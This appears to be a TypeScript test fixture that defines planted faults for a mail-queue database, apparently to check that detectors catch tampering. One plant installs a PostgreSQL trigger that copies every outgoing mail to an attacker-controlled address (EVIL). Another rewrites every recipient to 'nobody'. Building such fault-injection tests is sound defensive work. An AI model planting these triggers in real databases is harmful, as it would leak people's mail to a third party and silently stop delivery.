import type { Plant } from '../attack-part.ts';
import { EVIL } from './payloads.ts';

/** A plant that changes each mail before it is queued. */
const queued = ({ name, says, kind }: Plant, change: string): Plant => ({
  name,
  says,
  ...(kind === undefined ? {} : { kind }),
  open: async (target) => {
    await target.query(
      `CREATE FUNCTION changed() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN ${change} RETURN NEW; END $$`,
    );
    await target.query(
      'CREATE TRIGGER changed BEFORE INSERT ON outgoing_mail FOR EACH ROW EXECUTE FUNCTION changed()',
    );
    return target;
  },
});

export const plants: readonly Plant[] = [
  queued(
    {
      name: 'two-recipients',
      says: 'a mail goes to a second address as well',
      kind: 'a mail goes to nobody who was put in',
    },
    `IF NEW.recipient <> '${EVIL}' THEN
       INSERT INTO outgoing_mail SELECT (jsonb_populate_record(NEW, jsonb_build_object(
         'mail_id', gen_random_uuid(), 'recipient', '${EVIL}', 'notice_key', NULL))).*;
     END IF;`,
  ),
  queued(
    {
      name: 'undeliverable',
      says: 'an address that no mail server takes is accepted',
      kind: 'no accepted address keeps a mail in the queue',
    },
    `NEW.recipient = 'nobody';`,
  ),
];
